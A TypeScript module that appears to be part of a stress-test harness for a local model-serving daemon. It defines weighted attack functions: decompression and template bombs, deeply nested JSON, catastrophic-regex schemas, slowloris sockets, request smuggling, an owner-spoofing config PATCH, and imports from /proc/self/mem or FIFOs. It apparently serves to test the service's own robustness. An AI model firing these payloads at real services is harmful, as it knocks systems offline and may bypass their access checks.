import { execFileSync } from 'node:child_process';
import { connect, type Socket } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import type { Target } from './target.ts';

/** One hostile act; returns when it is over. What the daemon answers does not matter, only that it goes on. */
export type Attack = (target: Target) => Promise<void>;

/** No attack waits longer for an answer. */
const PATIENCE_MS = 30_000;

const JSON_HEADERS = { 'content-type': 'application/json' };

async function post(target: Target, path: string, body: unknown, signal?: AbortSignal): Promise<number> {
  return send(target, path, JSON.stringify(body), JSON_HEADERS, signal);
}

async function send(
  target: Target,
  path: string,
  body: string | Uint8Array<ArrayBuffer>,
  headers: Record<string, string>,
  signal = AbortSignal.timeout(PATIENCE_MS),
): Promise<number> {
  const reply = await fetch(target.url + path, { method: 'POST', headers, body, signal });
  await reply.arrayBuffer();
  return reply.status;
}

function open(target: Target): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = connect(target.port, target.host, () => resolve(socket));
    // An attacker minds no reset.
    socket.on('error', reject);
  });
}

function pick<Item>(items: readonly Item[]): Item {
  return items[Math.floor(Math.random() * items.length)] as Item;
}

function between(low: number, high: number): number {
  return low + Math.random() * (high - low);
}

const packed = new Map<string, Uint8Array<ArrayBuffer>>();

/** A body with gzip, made once: what it costs to make must not slow the attack down. */
function pack(key: string, make: () => string): Uint8Array<ArrayBuffer> {
  const bytes = packed.get(key) ?? new Uint8Array(gzipSync(make()));
  packed.set(key, bytes);
  return bytes;
}

const PACKED_HEADERS = { ...JSON_HEADERS, 'content-encoding': 'gzip' };

const CHAT = { model: 'demo', messages: [{ role: 'user', content: 'Hi' }] };

const TEXT_ROUTES: readonly [string, (list: unknown) => unknown][] = [
  ['/api/chat', (list) => ({ model: 'demo', messages: [{ role: 'user', content: list }] })],
  ['/v1/chat/completions', (list) => ({ model: 'demo', messages: [{ role: 'user', content: list }] })],
  ['/v1/chat/completions', (list) => ({ ...CHAT, stop: list, tools: list })],
  ['/v1/messages', (list) => ({ model: 'demo', max_tokens: 4, messages: [{ role: 'user', content: list }] })],
  ['/v1/responses', (list) => ({ model: 'demo', input: list })],
  ['/v1/rerank', (list) => ({ model: 'demo', query: 'a', documents: list })],
  ['/v1/embeddings', (list) => ({ model: 'demo', input: list })],
  ['/api/embed', (list) => ({ model: 'demo', input: list })],
  ['/detokenize', (list) => ({ model: 'demo', tokens: list })],
  ['/api/generate', (list) => ({ model: 'demo', prompt: 'a', context: list, images: list })],
];

/** The same wrong element a million times, in little more than a kilobyte. */
async function wideArray(target: Target): Promise<void> {
  const [path, bodyOf] = pick(TEXT_ROUTES);
  const element = pick(['1', 'null', '{}', '[]', '""']);
  const frame = JSON.stringify(bodyOf('@'));
  const body = pack(`wide ${frame} ${element}`, () => frame.replaceAll('"@"', `[${`${element},`.repeat(1e6)}1]`));
  await send(target, path, body, PACKED_HEADERS);
}

async function deepBody(target: Target): Promise<void> {
  const [path, bodyOf] = pick(TEXT_ROUTES);
  const depth = Math.floor(between(1_000, 100_000));
  const nest = pick([
    ['[', ']'],
    ['{"a":', '}'],
  ]);
  const deep = `${nest[0]?.repeat(depth)}1${nest[1]?.repeat(depth)}`;
  await send(target, path, JSON.stringify(bodyOf('@')).replaceAll('"@"', deep), JSON_HEADERS);
}

/** A body that unpacks to far more than any route takes. */
async function inflatedBody(target: Target): Promise<void> {
  const body = pack('inflated', () => `{"model":"demo","messages":[{"role":"user","content":"${'a'.repeat(300e6)}"}]}`);
  await send(target, '/v1/chat/completions', body, PACKED_HEADERS);
}

/** The whole request and a reset: whoever takes a missing address for the owner lets it in. */
async function resetOwner(target: Target): Promise<void> {
  const socket = await open(target);
  const body = JSON.stringify({ 'models.max_queue': 7 });
  socket.write(
    `PATCH /ohmygpu/v1/config HTTP/1.1\r\nHost: evil.example\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
    () => socket.resetAndDestroy(),
  );
  await sleep(between(1, 50));
}

const TEMPLATES = [
  "{% set s = '~' * 300000000 %}{{ s.split(',') | length }}",
  '{% set a = range(300000000) %}{{ a | length }}',
  '{% set ns = namespace(a=[1]) %}{% for i in range(40) %}{% set ns.a = ns.a + ns.a %}{% endfor %}{{ ns.a | length }}',
  "{% set ns = namespace(a='x') %}{% for i in range(60) %}{% set ns.a = ns.a ~ ns.a %}{% endfor %}{{ ns.a | length }}",
  '{% for a in range(100000) %}{% for b in range(100000) %}{% for c in range(100000) %}{% endfor %}{% endfor %}{% endfor %}',
  '{% macro f() %}{{ f() }}{{ f() }}{% endmacro %}{{ f() }}',
  `${Array.from({ length: 50_000 }, (_, at) => `<lit${at}>`).join('')}{{ messages[0].content }}`,
];

async function hostileTemplate(target: Target): Promise<void> {
  const name = `hostile-${Math.floor(between(0, 20))}`;
  await post(target, '/api/create', { model: name, from: 'demo', template: pick(TEMPLATES), stream: false });
  await post(
    target,
    '/v1/chat/completions',
    { ...CHAT, model: name, max_tokens: 2 },
    AbortSignal.timeout(between(50, 8000)),
  );
}

const SCHEMAS: readonly (() => unknown)[] = [
  () => ({ allOf: Array.from({ length: 200 }, (_, i) => ({ type: 'string', pattern: `a.{${i}}b` })) }),
  () => ({ allOf: [9973, 9967, 9949, 9941].map((multipleOf) => ({ type: 'integer', multipleOf })) }),
  () => ({ type: 'number', multipleOf: 999983 }),
  () => ({ $ref: '#/$defs/a', $defs: { a: { allOf: [{ $ref: '#/$defs/a' }, { type: 'object' }] } } }),
  () => ({
    type: 'object',
    properties: Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`p${i}`, { type: 'string' }])),
  }),
  () => ({
    anyOf: Array.from({ length: 3000 }, (_, i) => ({ type: 'object', properties: { [`p${i}`]: { type: 'string' } } })),
  }),
  () => ({ type: 'string', pattern: '((a{1,200}){1,200}){1,200}' }),
  () => ({
    type: 'object',
    properties: {
      ['x'.repeat(300_000)]: {
        properties: Object.fromEntries(Array.from({ length: 15_000 }, (_, i) => [`p${i}`, {}])),
      },
    },
  }),
];

async function hostileSchema(target: Target): Promise<void> {
  const schema = pick(SCHEMAS)();
  const format = { type: 'json_schema', json_schema: { name: 'a', schema } };
  const body = { ...CHAT, max_tokens: 8, response_format: format };
  await post(target, '/v1/chat/completions', body, AbortSignal.timeout(between(100, 15_000)));
}

async function hostileGrammar(target: Target): Promise<void> {
  const rules = Array.from({ length: 20_000 }, (_, i) => `r${i} ::= r${i + 1} | "a"`).join('\n');
  const body = { ...CHAT, max_tokens: 8, grammar: `root ::= r0\n${rules}\nr20000 ::= "b"` };
  await post(target, '/v1/chat/completions', body, AbortSignal.timeout(between(100, 15_000)));
}

/** Asks for a long answer and never reads it. */
async function unreadStream(target: Target): Promise<void> {
  const socket = await open(target);
  socket.pause();
  const body = JSON.stringify({
    model: 'demo',
    stream: true,
    ignore_eos: true,
    max_tokens: 20_000,
    prompt: 'Once upon a time',
  });
  socket.write(
    `POST /v1/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
  );
  await sleep(between(1_000, 40_000));
  socket.destroy();
}

async function slowBody(target: Target): Promise<void> {
  const socket = await open(target);
  socket.write('POST /api/chat HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n{"model":"demo",');
  for (let i = 0; i < 20; i++) {
    socket.write(' ');
    await sleep(between(200, 1_500));
  }
  socket.destroy();
}

async function idleSockets(target: Target): Promise<void> {
  const sockets = await Promise.all(Array.from({ length: 20 }, () => open(target)));
  for (const socket of sockets) if (Math.random() < 0.5) socket.write('GET / HT');
  await sleep(between(1_000, 20_000));
  for (const socket of sockets) socket.destroy();
}

/** A long prompt from a client that does not wait for its answer. */
async function leaver(target: Target): Promise<void> {
  const content = 'The quick brown fox jumps over the lazy dog. '.repeat(Math.floor(between(10, 1_500)));
  const body = { model: 'demo', max_tokens: 50, messages: [{ role: 'user', content }] };
  await post(target, '/v1/chat/completions', body, AbortSignal.timeout(between(5, 500)));
}

async function specialTokens(target: Target): Promise<void> {
  const token = pick(['<|im_end|>', '[INST]', '<0x0A>', '</s>']);
  const body = pack(
    token,
    () => `{"model":"demo","max_tokens":4,"messages":[{"role":"user","content":"${token.repeat(2e6)}"}]}`,
  );
  await send(target, '/v1/chat/completions', body, PACKED_HEADERS);
}

async function specialFile(target: Target): Promise<void> {
  const fifo = join(target.home, 'pipe.gguf');
  try {
    execFileSync('mkfifo', [fifo], { stdio: 'ignore' });
  } catch {
    // It is there already.
  }
  const path = pick([fifo, '/dev/zero', '/dev/tty', '/proc/self/mem', target.home, '/proc/self/fd/0']);
  await post(target, '/ohmygpu/v1/models/import', { path }, AbortSignal.timeout(between(200, 5_000)));
}

async function stalledUpload(target: Target): Promise<void> {
  const socket = await open(target);
  const digest = Array.from({ length: 64 }, () => pick([...'0123456789abcdef'])).join('');
  socket.write(`POST /api/blobs/sha256:${digest} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\nGGUF`);
  await sleep(between(500, 10_000));
  socket.destroy();
}

async function strangeKeys(target: Target): Promise<void> {
  const word = pick(['__proto__', 'constructor', 'toString', 'hasOwnProperty']);
  await post(target, '/api/chat', { model: 'demo', messages: [{ role: word, content: 'Hi' }], format: word });
  await send(
    target,
    '/v1/chat/completions',
    `{"model":"demo","${word}":{"a":1},"messages":[{"role":"user","${word}":1}]}`,
    JSON_HEADERS,
  );
}

async function brokenFraming(target: Target): Promise<void> {
  const socket = await open(target);
  socket.write(
    pick([
      'POST /api/chat HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n',
      `GET / HTTP/1.1\r\nHost: localhost\r\nX: ${'a'.repeat(70_000)}\r\n\r\n`,
      'POST /api/chat HTTP/1.1\r\nHost: localhost\r\nContent-Encoding: gzip\r\nContent-Length: 4\r\n\r\nabcd',
      '\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001',
    ]),
  );
  await sleep(between(10, 500));
  socket.destroy();
}

async function unreadEvents(target: Target): Promise<void> {
  const socket = await open(target);
  socket.pause();
  socket.write(
    'GET /ohmygpu/v1/events HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n',
  );
  await sleep(between(2_000, 30_000));
  socket.destroy();
}

/** Attacks by name, each with how often it is chosen against the others. */
export const ATTACKS: Readonly<Record<string, { attack: Attack; weight: number }>> = {
  'wide array': { attack: wideArray, weight: 4 },
  'deep body': { attack: deepBody, weight: 4 },
  'inflated body': { attack: inflatedBody, weight: 1 },
  'reset socket': { attack: resetOwner, weight: 8 },
  'hostile template': { attack: hostileTemplate, weight: 4 },
  'hostile schema': { attack: hostileSchema, weight: 4 },
  'hostile grammar': { attack: hostileGrammar, weight: 1 },
  'unread stream': { attack: unreadStream, weight: 3 },
  'slow body': { attack: slowBody, weight: 2 },
  'idle sockets': { attack: idleSockets, weight: 2 },
  'client that leaves': { attack: leaver, weight: 8 },
  'special tokens': { attack: specialTokens, weight: 2 },
  'special file': { attack: specialFile, weight: 3 },
  'stalled upload': { attack: stalledUpload, weight: 2 },
  'strange keys': { attack: strangeKeys, weight: 4 },
  'broken framing': { attack: brokenFraming, weight: 4 },
  'unread events': { attack: unreadEvents, weight: 2 },
};
